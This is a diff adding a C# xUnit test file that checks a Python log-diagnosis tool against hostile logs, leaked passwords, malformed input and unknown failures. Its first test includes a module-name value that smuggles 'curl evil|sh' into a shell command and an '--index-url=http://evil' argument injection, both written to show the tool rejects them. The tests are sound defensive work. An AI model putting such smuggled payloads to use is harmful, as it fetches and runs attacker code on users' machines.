@@ -1,0 +1,108 @@
+using System.Text;
+using Plumb.Diagnosis;
+using Xunit;
+
+namespace Plumb.Core.Tests.Diagnosis;
+
+public sealed class HostileLogTests
+{
+    [Fact]
+    public void What_a_log_says_gets_into_no_command_where_a_shell_would_see_more_in_it()
+    {
+        var cause = Diagnose("ModuleNotFoundError: No module named 'x\";curl${IFS}evil|sh;\"'\n").Causes[0];
+        Assert.Equal("package-missing", cause.Code);
+        Assert.DoesNotContain(cause.Fixes, f => f.Commands.Any(c => c.Contains("curl", StringComparison.Ordinal)));
+        cause = Diagnose("ModuleNotFoundError: No module named '--index-url=http://evil'\n").Causes[0];
+        Assert.DoesNotContain(cause.Fixes, f => f.Commands.Any(c => c.Contains("evil", StringComparison.Ordinal)));
+    }
+
+    [Fact]
+    public void Passwords_in_quoted_lines_are_not_shown()
+    {
+        var cause = Diagnose(
+            "WARNING: Retrying (Retry(total=0)) after connection broken by 'NewConnectionError('<x>: Failed to establish a new connection: [Errno -2] Name or service not known')': /simple/numpy/ https://me:hunter2@mirror.corp/simple\n"
+                + "ERROR: Could not find a version that satisfies the requirement numpy (from versions: none)\n"
+        ).Causes[0];
+        Assert.Equal("index-unreachable", cause.Code);
+        Assert.DoesNotContain(cause.Lines, l => l.Text.Contains("hunter2", StringComparison.Ordinal));
+    }
+
+    [Theory]
+    [InlineData(0)]
+    [InlineData(1)]
+    [InlineData(2)]
+    [InlineData(3)]
+    [InlineData(4)]
+    public void Nothing_that_a_file_can_hold_makes_it_fail(int seed)
+    {
+        var random = new Random(seed);
+        var words = FailureSignatures
+            .Embedded.All.SelectMany(s => s.Any)
+            .Select(p => p.Text.Replace("{", "", StringComparison.Ordinal))
+            .ToArray();
+        using var log = new MemoryStream();
+        for (var i = 0; i < 3000; i++)
+        {
+            switch (random.Next(6))
+            {
+                case 0:
+                    var noise = new byte[random.Next(300)];
+                    random.NextBytes(noise);
+                    log.Write(noise);
+                    break;
+                case 1:
+                    log.Write("\nTraceback (most recent call last):\n  File \""u8);
+                    break;
+                case 2:
+                    log.Write("\e[31m\e]0;\r\0│ "u8);
+                    break;
+                default:
+                    var word = words[random.Next(words.Length)];
+                    log.Write(Encoding.UTF8.GetBytes(word[random.Next(word.Length)..]));
+                    log.WriteByte(random.Next(3) == 0 ? (byte)'\n' : (byte)' ');
+                    break;
+            }
+        }
+
+        log.Position = 0;
+        var answer = LogDiagnosis.Read(log, null, TestContext.Current.CancellationToken);
+        Assert.True(answer.Lines > 100);
+    }
+
+    [Fact]
+    public void A_line_without_end_is_read_in_pieces()
+    {
+        var log = new string('x', 3_000_000) + "\nModuleNotFoundError: No module named 'six'\n";
+        Assert.Equal("package-missing", Diagnose(log).Causes[0].Code);
+    }
+
+    [Fact]
+    public void What_PowerShell_writes_is_read_too()
+    {
+        byte[] log =
+        [
+            .. Encoding.Unicode.Preamble,
+            .. Encoding.Unicode.GetBytes("ModuleNotFoundError: No module named 'six'\r\n"),
+        ];
+        using var stream = new MemoryStream(log);
+        var answer = LogDiagnosis.Read(stream, null, TestContext.Current.CancellationToken);
+        Assert.Equal("package-missing", answer.Causes[0].Code);
+        Assert.Equal(1, answer.Causes[0].Lines[0].Number);
+    }
+
+    [Fact]
+    public void A_failure_that_is_not_known_is_said_to_be_so()
+    {
+        var answer = Diagnose(
+            "start\nTraceback (most recent call last):\n  File \"a.py\", line 1, in f\n    g()\nFrobError: no frob\n"
+        );
+        Assert.True(answer.IsUnknown);
+        Assert.Empty(answer.Causes);
+        Assert.Equal(5, Assert.Single(answer.Decisive).Number);
+        Assert.False(Diagnose("all is well\n").IsUnknown);
+        Assert.False(Diagnose("").IsUnknown);
+    }
+
+    private static LogDiagnosis Diagnose(string log) =>
+        FailureSignaturesTests.Diagnose(FailureSignatures.Embedded, log);
+}
